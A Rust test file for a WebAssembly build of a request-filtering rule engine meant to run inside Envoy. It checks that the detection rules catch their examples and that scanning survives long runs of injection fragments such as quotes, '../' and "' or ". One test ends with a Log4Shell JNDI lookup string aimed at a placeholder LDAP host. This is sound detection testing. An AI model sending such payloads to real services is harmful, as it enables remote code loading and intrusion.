//! Does the core do in V8 what it does natively? The rules' examples and hostile values, in WebAssembly, as inside Envoy.
//!
//! What hostile values cost is not measured here but in `benches/`, by counting instructions.
//!
//! `./build.sh test wasm` runs it twice: on the module's own target in Node's WASI, and by the runner of `wasm-bindgen-test`.
//! Natively this file is empty.

#![cfg(target_family = "wasm")]
#![allow(clippy::unwrap_used, clippy::panic)]

use user_risk_filter::detect::detection::Detection;
use user_risk_filter::detect::detections::DETECTIONS;
use user_risk_filter::detect::rule_set::RuleSet;
use user_risk_filter::detect::scan::Scan;
use user_risk_filter::exchange::head::Head;
use user_risk_filter::read::field::Field;
use user_risk_filter::read::target::Target;
use user_risk_filter::read::{self, Body};
#[cfg(target_os = "unknown")]
use wasm_bindgen_test::wasm_bindgen_test as test;

struct Example {
    rule: &'static str,
    target: Target,
    name: &'static str,
    matches: &'static [&'static str],
    harmless: &'static [&'static str],
}

include!(concat!(env!("OUT_DIR"), "/examples.rs"));

fn scan(rules: &RuleSet, example: &Example, text: &str) -> Vec<Detection> {
    let mut scan = Scan::new();
    match text.split_once(' ') {
        Some((method @ ("GET" | "POST"), target)) if target.starts_with('/') => {
            let head = Head::new([(":method", method), (":path", target)].into_iter().collect());
            read::head(&head, &mut |field| scan.push(rules, field));
        }
        _ => {
            let (target, name) = (example.target, example.name.as_bytes());
            scan.push(rules, Field { target, name, value: text.as_bytes(), encoded: false });
        }
    }
    scan.take()
}

#[test]
fn rules_find_their_examples_and_leave_their_counter_examples_alone() {
    let rules = RuleSet::builtin();
    let mut wrong = Vec::new();
    for example in EXAMPLES {
        let finds = |text: &str| scan(&rules, example, text).iter().any(|one| rules.rule(one.rule).id == example.rule);
        wrong.extend(example.matches.iter().filter(|text| !finds(text)).map(|text| (example.rule, text)));
        wrong.extend(example.harmless.iter().filter(|text| finds(text)).map(|text| (example.rule, text)));
    }
    assert!(EXAMPLES.len() > 50 && wrong.is_empty(), "{wrong:?}");
}

#[test]
fn hostile_values_are_scanned_to_their_end() {
    let rules = RuleSet::builtin();
    for part in
        ["'", "(", "%25", "${", "<", "<a x='", "&#", "\\u", "../", "' or ", "{\"a\":", "[", "a&", "for %", "http://"]
    {
        let value = part.repeat(128 * 1024 / part.len());
        let mut scan = Scan::new();
        scan.arrived(6 * value.len());
        for target in [Target::Query, Target::Path, Target::Text, Target::Header] {
            scan.push(&rules, Field { target, name: b"x", value: value.as_bytes(), encoded: true });
        }
        let head = Head::new([("content-type", "application/json")].into_iter().collect());
        let mut body = Body::new(&head, 1 << 20);
        body.push(value.as_bytes(), &mut |field| scan.push(&rules, field));
        body.finish(&mut |field| scan.push(&rules, field));
        // Whatever came before, an attack behind it is found.
        scan.push(
            &rules,
            Field { target: Target::Query, name: b"y", value: b"${jndi:ldap://x.example/a}", encoded: false },
        );
        let found = scan.take();
        assert!(found.len() <= DETECTIONS, "{part:?}");
        assert!(found.iter().any(|one| rules.rule(one.rule).id == "log4shell.lookup"), "{part:?}");
    }
}
